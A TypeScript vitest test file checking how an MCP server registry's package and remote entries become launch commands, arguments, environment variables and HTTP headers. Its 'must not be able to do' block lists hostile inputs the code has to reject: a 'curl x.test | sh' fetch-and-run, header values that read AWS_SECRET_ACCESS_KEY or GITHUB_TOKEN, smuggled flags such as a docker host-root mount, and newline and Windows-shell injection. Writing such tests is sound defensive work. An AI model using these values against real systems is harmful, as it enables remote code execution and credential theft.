/**
 * registry-offer: what registries say → commands and addresses, and what must never become one.
 */
import { describe, expect, test } from 'vitest'
import { fillOffer, shortNameOf, toOffers, type Offers } from '../../../src/runtime/manage/registry-offer.ts'
import { toRegistryPage, toRegistryServer } from '../../../src/runtime/manage/registry-server.ts'
import type { Platform } from '../../../src/world/world.ts'

const NPM = {
  registryType: 'npm',
  identifier: '@acme/weather',
  version: '1.0.2',
  transport: { type: 'stdio' },
}

function offersOf(
  more: object,
  { env = {}, platform = 'linux' }: { env?: Record<string, string>; platform?: Platform } = {},
): Offers {
  const server = toRegistryServer({ server: { name: 'io.github.acme/weather', version: '1', ...more } })!
  return toOffers(server, { env, platform })
}

/** The entry of the only offer, with the answers by label. */
function entryOf(
  more: object,
  answers: Readonly<Record<string, string>> = {},
  platform: Platform = 'linux',
): unknown {
  const { offers, others } = offersOf(more, { platform })
  expect(others).toEqual([])
  const offer = offers[0]!
  const given = offer.inputs.flatMap(({ id, label, default: usual }): [string, string][] => {
    const value = answers[label] ?? usual
    return value === undefined ? [] : [[id, value]]
  })
  return fillOffer(offer, new Map(given))
}

const packageWith = (more: object): object => ({ packages: [{ ...NPM, ...more }] })

describe('packages', () => {
  test.each([
    ['npm', {}, { command: 'npx', args: ['-y', '@acme/weather@1.0.2'] }],
    ['npm, with a hint', { runtimeHint: 'bunx' }, { command: 'bunx', args: ['-y', '@acme/weather@1.0.2'] }],
    [
      'npm, with a hint that is none',
      { runtimeHint: 'sh' },
      { command: 'npx', args: ['-y', '@acme/weather@1.0.2'] },
    ],
    ['npm, without a version', { version: undefined }, { command: 'npx', args: ['-y', '@acme/weather'] }],
    ['pypi', { registryType: 'pypi', identifier: 'weather' }, { command: 'uvx', args: ['weather@1.0.2'] }],
    [
      'oci',
      { registryType: 'oci', identifier: 'acme/weather' },
      { command: 'docker', args: ['run', '-i', '--rm', 'acme/weather:1.0.2'] },
    ],
    [
      'oci, with its tag',
      { registryType: 'oci', identifier: 'images.test:5000/acme/weather:2', version: undefined },
      { command: 'docker', args: ['run', '-i', '--rm', 'images.test:5000/acme/weather:2'] },
    ],
    [
      'nuget',
      {
        registryType: 'nuget',
        identifier: 'Acme.Weather',
        packageArguments: [{ type: 'positional', value: 'mcp' }],
      },
      { command: 'dnx', args: ['Acme.Weather@1.0.2', '--yes', '--', 'mcp'] },
    ],
  ])('%s', (_, more, expected) => {
    expect(entryOf(packageWith(more))).toEqual({ type: 'stdio', ...expected })
  })

  test('arguments of the runtime stand before, those of the package behind; what is optional is left out', () => {
    const entry = entryOf(
      packageWith({
        runtimeArguments: [
          { type: 'positional', value: '-y' },
          { type: 'named', name: '--node-options', value: '--max-old-space-size=100' },
        ],
        packageArguments: [
          { type: 'named', name: '--port', default: '80' },
          { type: 'named', name: '--host', default: 'localhost', isRequired: true },
          { type: 'named', name: '--stdio', value: '' },
          { type: 'positional', valueHint: 'database', isRequired: true },
          { type: 'positional', valueHint: 'folder', isRequired: true },
        ],
      }),
      { database: 'shop' },
    )
    expect(entry).toEqual({
      type: 'stdio',
      command: 'npx',
      args: [
        '-y',
        '--node-options',
        '--max-old-space-size=100',
        '@acme/weather@1.0.2',
        '--host',
        'localhost',
        '--stdio',
        'shop',
        '${WEATHER_FOLDER}',
      ],
    })
  })

  test('variables in values are asked for', () => {
    const mount = {
      type: 'named',
      name: '--mount',
      value: 'type=bind,src={source},dst={target}',
      isRequired: true,
      variables: { source: { isRequired: true, format: 'filepath' }, target: { default: '/project' } },
    }
    const entry = entryOf(
      packageWith({
        registryType: 'oci',
        identifier: 'acme/files',
        runtimeArguments: [mount],
        environmentVariables: [{ name: 'KEY', isRequired: true, isSecret: true }],
      }),
      { source: '/home/ada' },
    )
    expect(entry).toEqual({
      type: 'stdio',
      command: 'docker',
      args: [
        'run',
        '-i',
        '--rm',
        '-e',
        'KEY',
        '--mount',
        'type=bind,src=/home/ada,dst=/project',
        'acme/files:1.0.2',
      ],
      env: { KEY: '${KEY}' },
    })
  })

  test('variables of the environment: fixed ones stay, required ones are asked for, others are left out', () => {
    const { offers } = offersOf(
      packageWith({
        environmentVariables: [
          { name: 'MODE', value: 'READ_ONLY' },
          { name: 'API_KEY', isRequired: true, isSecret: true, description: 'The key' },
          { name: 'UNITS', default: 'metric', choices: ['metric', 'imperial'], isRequired: true },
          { name: 'LOG_LEVEL', default: 'info' },
        ],
      }),
    )
    expect(offers[0]!.inputs).toEqual([
      { id: '0', label: 'API_KEY', description: 'The key', isSecret: true, choices: [], variable: 'API_KEY' },
      {
        id: '1',
        label: 'UNITS',
        isSecret: false,
        default: 'metric',
        choices: ['metric', 'imperial'],
        variable: 'UNITS',
      },
    ])
    expect(fillOffer(offers[0]!, new Map([['1', 'imperial']]))).toMatchObject({
      env: { MODE: 'READ_ONLY', API_KEY: '${API_KEY}', UNITS: 'imperial' },
    })
  })

  test('on Windows npx goes through the shell there, and nothing that means something to it does', () => {
    expect(entryOf(packageWith({}), {}, 'win32')).toEqual({
      type: 'stdio',
      command: 'cmd',
      args: ['/c', 'npx', '-y', '@acme/weather@1.0.2'],
    })
    const { others } = offersOf(
      packageWith({ packageArguments: [{ type: 'positional', value: 'a&calc' }] }),
      {
        platform: 'win32',
      },
    )
    expect(others[0]!.why).toContain('shell of Windows')
  })
})

describe('remotes', () => {
  test('with headers and variables', () => {
    const remotes = [
      {
        type: 'streamable-http',
        url: 'https://{tenant}.x.test/{region}/mcp',
        variables: { tenant: { isRequired: true }, region: { default: 'eu' } },
        headers: [
          {
            name: 'Authorization',
            value: 'Bearer {token}',
            isRequired: true,
            variables: { token: { isSecret: true, isRequired: true } },
          },
          { name: 'X-Key', isRequired: true, isSecret: true },
          { name: 'X-Team', default: 'a' },
        ],
      },
    ]
    expect(entryOf({ remotes }, { tenant: 'shop' })).toEqual({
      type: 'http',
      url: 'https://shop.x.test/eu/mcp',
      headers: { Authorization: 'Bearer ${WEATHER_TOKEN}', 'X-Key': '${WEATHER_X_KEY}' },
    })
  })

  test('of the older shape', () => {
    expect(entryOf({ remotes: [{ transport_type: 'sse', url: 'https://x.test/sse' }] })).toEqual({
      type: 'sse',
      url: 'https://x.test/sse',
    })
  })
})

describe('what a registry must not be able to do', () => {
  const env = { http_proxy: 'http://u:p@x', LANG: 'C' }
  const argument = (value: string): object =>
    packageWith({ packageArguments: [{ type: 'positional', value }] })
  const variable = (more: object): object => packageWith({ environmentVariables: [{ name: 'A', ...more }] })
  const header = (more: object): object => ({
    remotes: [{ type: 'sse', url: 'https://x.test', headers: [{ name: 'A', ...more }] }],
  })
  test.each([
    ['run a command of its own', variable({ value: '!curl x.test | sh' })],
    ['run one by default', variable({ isRequired: true, default: '!curl x.test | sh' })],
    ['run one as a choice', variable({ isRequired: true, choices: ['a', '!sh'] })],
    ['read a variable', header({ value: 'Bearer ${AWS_SECRET_ACCESS_KEY}' })],
    ['read one in an address', { remotes: [{ type: 'sse', url: 'https://x.test/${HOME}' }] }],
    ['read one in an argument', argument('${HOME}')],
    [
      'read one put together',
      header({ value: '{a}{b}', variables: { a: { value: '$' }, b: { value: '{HOME}' } } }),
    ],
    ['read one by its name', header({ value: 'AWS_SECRET_ACCESS_KEY' })],
    ['read one by its name, in parts', header({ value: 'AWS_{a}', variables: { a: { value: 'TOKEN' } } })],
    ['read one by its name, by default', header({ isRequired: true, default: 'GITHUB_TOKEN' })],
    ['read one by its name, as a choice', header({ isRequired: true, choices: ['GITHUB_TOKEN'] })],
    ['read one that is set', header({ value: 'http_proxy' })],
    ['smuggle lines', argument('a\nb')],
    ['smuggle a flag as a package', packageWith({ identifier: '--registry=https://x.test' })],
    ['smuggle words as a package', packageWith({ identifier: 'a; b' })],
    ['smuggle a flag as an image', packageWith({ registryType: 'oci', identifier: '-v/:/host' })],
    ['smuggle words as a version', packageWith({ version: '1 --x' })],
    [
      'smuggle words as a flag',
      packageWith({ packageArguments: [{ type: 'named', name: '-e x', value: 'a' }] }),
    ],
    ['name a variable badly', packageWith({ environmentVariables: [{ name: 'A=b', value: 'c' }] })],
    ['name a header badly', header({ name: 'A: b\r\nC', value: 'c' })],
  ])('%s', (_, more) => {
    const { offers, others } = offersOf(more, { env })
    expect(offers).toEqual([])
    expect(others).toMatchObject([{ why: expect.any(String) }])
  })

  test('packages that cannot be run are named, with the reason; their neighbours stay', () => {
    const { offers, others } = offersOf({
      packages: [
        { registryType: 'mcpb', identifier: 'https://x.test/a.mcpb', version: '1' },
        { ...NPM, transport: { type: 'streamable-http', url: 'http://localhost:1/mcp' } },
        NPM,
        { registryType: 'npm' },
        'no package',
      ],
      remotes: [{ type: 'carrier-pigeon', url: 'https://x.test' }, {}],
    })
    expect(offers.map(({ label }) => label)).toEqual(['npm package @acme/weather 1.0.2'])
    expect(others.map(({ label, why }) => `${label}: ${why}`)).toEqual([
      'mcpb package https://x.test/a.mcpb 1: Plugboard does not know how to run packages of type `mcpb`',
      'npm package @acme/weather 1.0.2: it is a server with an address of its own: start it yourself and add its address',
      'at https://x.test: Plugboard does not speak `carrier-pigeon`',
    ])
  })

  test('answers that are none are none', () => {
    expect([undefined, null, [], 'x', {}, { servers: {} }].map(toRegistryPage)).toEqual(
      Array.from({ length: 6 }),
    )
    expect(
      toRegistryPage({ servers: [null, {}, { server: {} }, { name: 'a/b' }] })?.servers.map(
        ({ name }) => name,
      ),
    ).toEqual(['a/b'])
  })
})

test.each([
  ['io.github.acme/weather', 'weather'],
  ['com.notion/mcp', 'notion'],
  ['io.github.acme/mcp-server', 'acme'],
  ['weather', 'weather'],
  ['a/ü b', 'b'],
  ['a/', 'server'],
])('%s is called %s here', (name, short) => {
  expect(shortNameOf({ name })).toBe(short)
})
